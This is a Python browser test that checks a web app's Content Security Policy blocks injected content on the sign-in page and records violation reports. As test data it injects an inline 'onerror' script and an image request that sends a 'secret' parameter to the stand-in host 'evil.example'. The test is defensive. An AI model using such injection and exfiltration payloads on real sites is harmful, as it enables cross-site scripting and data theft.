"""The policy in a real browser: what it blocks is told to us, and pages work under it."""

import pytest
from sqlalchemy import select

from app.core.database import transaction
from app.operations.models import CspViolation
from tests.support.browser import ARGUMENTS, chromium
from tests.support.builders import an_account
from tests.support.system import System, wait_until

pytestmark = pytest.mark.browser


def seen() -> list[tuple[str, str, str]]:
    with transaction() as session:
        found = session.scalars(select(CspViolation))
        return sorted((one.directive, one.blocked, one.page) for one in found)


def test_what_chromium_blocks_is_told(web: System) -> None:
    an_account()
    # Reports are sent once a minute otherwise.
    with chromium([*ARGUMENTS, "--short-reporting-delay"]) as browser:
        page = browser.new_page()
        page.goto(f"{web.base_url}/sign-in")
        ran = page.evaluate(
            """() => {
                const add = (fill) => {
                    const script = document.createElement('script');
                    fill(script);
                    document.body.append(script);
                };
                document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran=1">');
                document.body.insertAdjacentHTML(
                    'beforeend', '<img src="http://evil.example/a?secret=1">');
                return window.ran === 1;
            }"""
        )
        assert not ran
        wanted = {
            ("script-src-attr", "inline", "/sign-in"),
            ("img-src", "http://evil.example", "/sign-in"),
        }
        wait_until("both reports", lambda: wanted <= set(seen()), 60)
        assert page.evaluate("window.ran === undefined")
